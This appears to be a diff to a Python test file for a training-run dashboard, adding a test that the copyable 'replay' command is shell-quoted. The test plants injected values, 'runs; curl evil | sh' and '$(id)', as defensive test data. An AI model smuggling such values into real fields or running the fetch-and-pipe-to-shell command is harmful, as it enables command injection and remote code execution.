@@ -4,6 +4,7 @@ import json
 import re
 import time
 from datetime import UTC, datetime
+from html import unescape
 from pathlib import Path
 from typing import Any
 
@@ -269,6 +270,20 @@ def test_the_replay_names_the_folder_that_the_run_was_configured_with(
         html = client.get(f"/runs/{name}/incidents/i-1").text
         assert f"python -m trainer replay {folder}/incidents/i-1<" in html
         assert "none was found" in text_of(html)
+
+
+def test_a_command_to_copy_holds_no_other_command(client: httpx.Client, teller: Any) -> None:
+    run = teller(client, "maps")
+    config = {"run": {"name": "maps", "folder": "runs; curl evil | sh"}}
+    client.put("/api/v1/runs/maps", json={"started_at": "2026-03-01T12:00:00Z", "config": config})
+    run.tell(
+        Incident(
+            step=3, time=run.moment(), incident="i-1", onset_step=3, guard="nonfinite", kind="transient",
+            message="a flipped bit", evidence="incidents/$(id)",
+        )
+    )  # fmt: skip
+    shown = unescape(client.get("/runs/maps/incidents/i-1").text)
+    assert "python -m trainer replay 'runs; curl evil | sh/incidents/$(id)'<" in shown
 
 
 def test_a_thousand_runs_are_listed_in_the_time_of_a_glance(
